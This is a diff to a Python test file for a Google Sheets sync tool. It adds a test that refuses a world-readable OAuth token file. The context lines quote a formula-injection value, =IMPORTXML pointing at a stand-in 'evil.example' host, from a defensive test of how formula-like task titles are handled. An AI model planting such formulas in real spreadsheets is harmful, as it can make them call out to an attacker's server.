@@ -329,3 +329,19 @@ def test_a_task_title_that_looks_like_a_formula_is_written_as_text(installed, fa
     sync(s)
     # The fake turns USER_ENTERED "=..." into a formula (shown as #NAME?), as Sheets would.
     assert fake.get_values(SHEET, "Tasks")[1][1] == '=IMPORTXML("http://evil.example/", "//a")'
+
+
+def test_a_world_readable_token_is_refused_with_a_permission_line(installed, fake: FakeGoogle):
+    s, _ = installed()
+    token = Path(s.google.token_file)
+    token.chmod(0o644)
+    lines: list[str] = []
+    r = sync(s, lines)
+    assert r.exit_code == 2
+    assert lines == [
+        f"[port-sheet] permission error: {token} has mode 0644, readable beyond its owner;"
+        " refusing it until it is 0600"
+    ]
+    assert fake.requests("token") == []  # refused before any use of the token
+    token.chmod(0o600)
+    assert sync(s).exit_code == 0
